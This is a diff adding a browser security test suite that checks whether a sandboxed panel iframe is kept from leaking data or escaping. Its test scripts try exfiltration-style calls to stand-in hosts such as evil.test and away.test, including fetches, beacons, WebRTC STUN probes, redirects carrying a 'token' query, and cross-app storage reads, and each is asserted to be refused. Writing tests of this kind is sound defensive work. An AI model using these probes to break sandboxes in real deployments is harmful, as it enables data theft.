@@ -1,0 +1,263 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { BROWSER } from '../../../../apps/web/test/support/real-browser.ts';
+import { panelApp, panelFiles } from '../support/panel-app.ts';
+import { openStage, type Stage } from '../support/panel-stage.ts';
+
+const SECRET = /\/([\w-]{43})\//;
+const NAMES = ['', 'api.example.test', 'a.cdn.test'];
+
+let stage: Stage;
+
+/** What came to the outside that the footprint does not name. */
+const strangers = (): string[] => [...stage.outside.met].filter((host) => !NAMES.includes(host));
+
+/** A script that adds an element, and waits for its fate. */
+const adding = (tag: string, fields: Record<string, string>): string => `new Promise((settled) => {
+  const element = Object.assign(document.createElement('${tag}'), ${JSON.stringify(fields)});
+  element.onload = () => settled('loaded');
+  element.onloadeddata = () => settled('loaded');
+  element.onerror = () => settled('refused');
+  document.head.append(element);
+})`;
+
+describe.skipIf(BROWSER === undefined)('a hostile panel, in a real browser', () => {
+  beforeAll(async () => {
+    stage = await openStage();
+  });
+  afterAll(async () => {
+    await stage.close();
+    expect(stage.faults).toEqual([]);
+  });
+
+  const show = (app = panelApp()) => stage.show(app, panelFiles('', { 'ui/other.html': '<p>other</p>' }));
+  const fetching = (url: string): string =>
+    `fetch('${url}').then((answer) => answer.text(), () => 'refused')`;
+
+  /** Gathers the addresses under which another peer could call, of a server that is ours. */
+  const calling = (view: string): string => `try {
+    const peer = new ${view}.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stage.outside.udpPort}' }] });
+    peer.createDataChannel('away');
+    await peer.setLocalDescription(await peer.createOffer());
+    if (peer.iceGatheringState !== 'complete') await new Promise((settled) => {
+      peer.onicegatheringstatechange = settled;
+      setTimeout(settled, 300);
+    });
+  } catch {}`;
+
+  it('reaches the domains of its footprint by fetch, through redirects too, and no others', async () => {
+    const { frame } = await show();
+    expect(await frame.evaluate(fetching('https://api.example.test/'))).toBe('from outside');
+    expect(await frame.evaluate(fetching('https://api.example.test/to/a.cdn.test'))).toBe('from outside');
+    expect(await frame.evaluate(fetching('https://evil.test/'))).toBe('refused');
+    expect(await frame.evaluate(fetching('https://api.example.test/to/evil.test'))).toBe('refused');
+    expect(await frame.evaluate(fetching('http://api.example.test/'))).toBe('refused');
+    expect(strangers()).toEqual([]);
+  });
+
+  it('loads no script, style, font, picture, media, frame or worker from elsewhere', async () => {
+    const { frame } = await show();
+    const at = (name: string) => `https://${name}.test/a`;
+    const attempts = [
+      adding('script', { src: at('script') }),
+      adding('script', { src: at('module'), type: 'module' }),
+      // Not even from its own domains, which carry data and no code.
+      adding('script', { src: 'https://api.example.test/code.js' }),
+      adding('link', { href: at('style'), rel: 'stylesheet' }),
+      adding('img', { src: at('picture') }),
+      adding('video', { src: at('video') }),
+      `new FontFace('f', 'url(${at('font')})').load().then(() => 'loaded', () => 'refused')`,
+      `new Promise((settled) => { const socket = new WebSocket('wss://socket.test/');
+        socket.onopen = () => settled('loaded'); socket.onerror = () => settled('refused'); })`,
+      `new WebTransport('${at('transport')}').ready.then(() => 'loaded', () => 'refused')`,
+      `new Promise((settled) => { const source = new EventSource('${at('events')}');
+        source.onopen = () => settled('loaded'); source.onerror = () => settled('refused'); })`,
+    ];
+    for (const attempt of attempts) expect(await frame.evaluate(attempt)).toBe('refused');
+    expect(strangers()).toEqual([]);
+  });
+
+  it('runs nothing inline, and nothing made of text', async () => {
+    const { frame } = await show();
+    const ran = await frame.evaluate(`(() => {
+      const script = document.createElement('script');
+      script.textContent = 'globalThis.ran = "inline"';
+      document.head.append(script);
+      document.body.insertAdjacentHTML('beforeend', '<button onclick="globalThis.ran = 1">');
+      document.querySelector('button').click();
+      setTimeout('globalThis.ran = "timer"', 0);
+      return new Promise((settled) => setTimeout(() => settled(globalThis.ran ?? 'nothing'), 20));
+    })()`);
+    expect(ran).toBe('nothing');
+  });
+
+  it('makes no connection by hints, rules, beacons or WebRTC, which its content policy does not know', async () => {
+    const { frame } = await show();
+    const relations = [
+      'dns-prefetch',
+      'preconnect',
+      'prefetch',
+      'preload',
+      'modulepreload',
+      'prerender',
+      'icon',
+    ];
+    await frame.evaluate(`(async () => {
+      for (const rel of ${JSON.stringify(relations)}) {
+        const link = Object.assign(document.createElement('link'), { rel, as: 'image' });
+        link.href = 'https://' + rel + '.test/';
+        document.head.append(link);
+      }
+      const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
+      rules.textContent = '{"prefetch":[{"source":"list","urls":["https://rules.test/"]}]}';
+      document.head.append(rules);
+      navigator.sendBeacon('https://beacon.test/');
+      ${calling('self')}
+    })()`);
+    // What was asked for before has come by when this has.
+    expect(await frame.evaluate(fetching('https://api.example.test/'))).toBe('from outside');
+    expect(strangers()).toEqual([]);
+    expect(stage.outside.packets()).toBe(0);
+  });
+
+  it('has none of the features that a page may be given', async () => {
+    const { frame } = await show();
+    expect(await frame.evaluate('document.featurePolicy.allowedFeatures()')).toEqual([]);
+  });
+
+  it('opens no window, frame or plugin, changes no base, shows no dialog, and takes no download', async () => {
+    const { frame, panel } = await show();
+    const pages = stage.page.context().pages().length;
+    const done = await frame.evaluate(`(() => {
+      document.body.insertAdjacentHTML('beforeend', \`<base href="https://base.test/">
+        <iframe src="https://frame.test/"></iframe><object data="https://object.test/"></object>
+        <embed src="https://embed.test/"><a href="https://link.test/" target="_blank">out</a>
+        <a href="panel.js" download>file</a>\`);
+      for (const link of document.querySelectorAll('a')) link.click();
+      return [String(open('https://window.test/')), new URL(document.baseURI).host, confirm('Really?')];
+    })()`);
+    expect(done).toEqual(['null', new URL(frame.url()).host, false]);
+    const kept = stage.page
+      .frames()
+      .filter((one) => one.url().includes(panel.frame.address.match(SECRET)?.[1] ?? ''));
+    expect(kept).toHaveLength(2);
+    expect(stage.page.context().pages()).toHaveLength(pages);
+    expect(strangers()).toEqual([]);
+  });
+
+  it.each([
+    ['sets its location', `location = 'https://away.test/?token'`],
+    ['follows a link', `Object.assign(document.createElement('a'), { href: 'https://away.test/' }).click()`],
+    [
+      'submits a form',
+      `(() => { const form = Object.assign(document.createElement('form'), { action: 'https://away.test/' });
+        document.body.append(form); form.submit(); })()`,
+    ],
+    [
+      'refreshes itself away',
+      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=https://away.test/">')`,
+    ],
+    ['becomes a blob', `location = URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' }))`],
+    ['becomes data', `location = 'data:text/html,<p>'`],
+    ['goes to another page of its own', `location = 'other.html'`],
+    ['begins anew', `location.reload()`],
+  ])('is taken away when it %s', async (_what, script) => {
+    const { frame, panel, reason } = await show();
+    const page = frame.url();
+    expect(stage.serve(new Request(page)).status).toBe(200);
+    await frame.evaluate(script).catch(() => {});
+    expect(await reason).toBe('navigated');
+    await expect.poll(() => stage.page.locator(`iframe[src="${panel.frame.address}"]`).count()).toBe(0);
+    expect(stage.serve(new Request(page)).status).toBe(404);
+    expect(strangers()).toEqual([]);
+  });
+
+  it('cannot send the client’s page, or the frame around it, elsewhere', async () => {
+    const { frame } = await show();
+    const thrown = await frame.evaluate(`['top', 'parent'].map((name) => {
+      try { window[name].location = 'https://away.test/'; return 'sent'; } catch (error) { return error.name; }
+    })`);
+    expect(thrown).toEqual(['SecurityError', 'SecurityError']);
+    expect(stage.page.url()).toBe(`${stage.client.origin}/`);
+    expect(strangers()).toEqual([]);
+  });
+
+  it('reads neither the client’s page nor the frame around it', async () => {
+    const { frame } = await show();
+    const read =
+      await frame.evaluate(`[() => top.document, () => parent.document, () => frameElement, () => top.heard]
+      .map((look) => { try { return String(look()); } catch (error) { return error.name; } })`);
+    expect(read).toEqual(['SecurityError', 'SecurityError', 'null', 'SecurityError']);
+  });
+
+  it('leaves nothing behind that goes on answering: no service worker, no shared worker', async () => {
+    const { frame } = await stage.show(panelApp(), panelFiles('', { 'ui/worker.js': 'onfetch = () => {}' }));
+    const worked = await frame.evaluate(`(async () => [
+      await navigator.serviceWorker.register('worker.js').then(() => 'registered', (error) => error.name),
+      await new Promise((settled) => {
+        const worker = new SharedWorker('worker.js');
+        worker.onerror = () => settled('refused');
+        worker.port.onmessage = () => settled('runs');
+      }),
+    ])()`);
+    expect(worked).not.toContain('registered');
+    expect(worked).toContain('refused');
+  });
+
+  it('holds its workers to the same domains', async () => {
+    const script = `fetch('https://evil.test/').catch(() => fetch('https://api.example.test/'))
+      .then((answer) => answer.text()).then(postMessage, (error) => postMessage(String(error)))`;
+    const { frame } = await stage.show(panelApp(), panelFiles('', { 'ui/worker.js': script }));
+    const heard = await frame.evaluate(`new Promise((settled) => {
+      const worker = new Worker('worker.js');
+      worker.onmessage = ({ data }) => settled(data);
+      worker.onerror = () => settled('refused');
+    })`);
+    expect(heard).toBe('from outside');
+    expect(strangers()).toEqual([]);
+  });
+
+  it('shares no storage with another app or version, and reads none of their files', async () => {
+    const [mine, other, next] = await Promise.all([
+      show(),
+      show(panelApp({ id: 'com.example.other' })),
+      show(panelApp({ version: '1.0.1' })),
+    ]);
+    await mine.frame.evaluate(
+      `localStorage.setItem('token', 'mine'); document.cookie = 'token=mine;domain=localhost'`,
+    );
+    for (const { frame } of [other, next]) {
+      expect(await frame.evaluate(`[localStorage.getItem('token'), document.cookie]`)).toEqual([null, '']);
+      expect(await frame.evaluate(fetching(mine.frame.url()))).toBe('refused');
+      // With the other's secret on its own origin it finds nothing either.
+      const stolen = new URL(mine.frame.url()).pathname;
+      expect(await frame.evaluate(`fetch('${stolen}').then(({ status }) => status)`)).toBe(404);
+    }
+    const again = await show();
+    expect(new URL(again.frame.url()).origin).toBe(new URL(mine.frame.url()).origin);
+    expect(again.frame.url()).not.toBe(mine.frame.url());
+  });
+});
+
+it.skipIf(BROWSER === undefined)(
+  'calls nobody through the window of an inner frame: the browser ends it',
+  async () => {
+    // A browser of its own, as what drives it takes the end of one frame's process for the end of the page.
+    const own = await openStage();
+    const client = await own.page.context().newCDPSession(own.page);
+    const { frame } = await own.show(panelApp(), panelFiles(''));
+    const calling = `(async () => {
+    const inner = document.createElement('iframe');
+    document.body.append(inner);
+    const server = { urls: 'stun:127.0.0.1:${own.outside.udpPort}' };
+    const peer = new inner.contentWindow.RTCPeerConnection({ iceServers: [server] });
+    peer.createDataChannel('away');
+    await peer.setLocalDescription(await peer.createOffer());
+    await new Promise((settled) => setTimeout(settled, 300));
+  })()`;
+    await expect(frame.evaluate(calling)).rejects.toThrow(/crashed/);
+    const { result } = await client.send('Runtime.evaluate', { expression: 'document.title' });
+    expect(result.value).toBe('client');
+    expect(own.outside.packets()).toBe(0);
+    await own.close();
+  },
+);
